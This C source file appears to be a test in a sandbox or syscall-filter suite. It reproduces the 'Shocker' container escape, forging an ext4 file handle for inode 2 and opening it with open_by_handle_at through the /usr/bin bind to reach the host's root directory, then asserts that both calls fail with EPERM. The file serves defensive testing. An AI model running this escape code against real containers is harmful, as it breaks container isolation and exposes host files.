/* "Shocker": name_to_handle_at gives the file-system handle of a file in a
 * bind; open_by_handle_at opens any inode of that file system from a handle,
 * bypassing the mount that limits the view. The attack takes the handle of
 * /usr/bin, then forges one for inode 2 (the root directory of an ext*
 * file system: the host's /) and opens it through the /usr/bin bind. Both
 * calls must fail with EPERM. name_to_handle_at needs no privilege from the
 * kernel: EPERM there is the filter's. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

int main(void)
{
	struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
	int mount_id;

	fh->handle_bytes = MAX_HANDLE_SZ;
	long r = name_to_handle_at(AT_FDCWD, "/usr/bin", fh, &mount_id, 0);
	filtered("name_to_handle_at /usr/bin", r, errno, EPERM);
	if (r == 0)
		printf("handle of /usr/bin: type %d, %u bytes, inode %u\n", fh->handle_type, fh->handle_bytes,
		       *(uint32_t *)fh->f_handle);
	else {
		/* Forge an ext4 FILEID_INO32_GEN handle without the kernel's help. */
		fh->handle_type = 1;
		fh->handle_bytes = 8;
	}
	/* inode 2, generation 0: the root directory of an ext* file system */
	((uint32_t *)fh->f_handle)[0] = 2;
	((uint32_t *)fh->f_handle)[1] = 0;
	int mfd = open("/usr/bin", O_RDONLY | O_DIRECTORY);
	if (mfd < 0)
		return perror("/usr/bin"), 2;
	int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_DIRECTORY);
	int e = errno;
	if (fd >= 0) {
		DIR *d = fdopendir(fd);
		struct dirent *de;
		printf("opened inode 2 of the /usr/bin file system; it holds:");
		for (int i = 0; d && (de = readdir(d)) && i < 12; i++)
			printf(" %s", de->d_name);
		printf("\n");
	}
	must_fail("open_by_handle_at of the file system's root", fd, e, EPERM);
	return verdict();
}
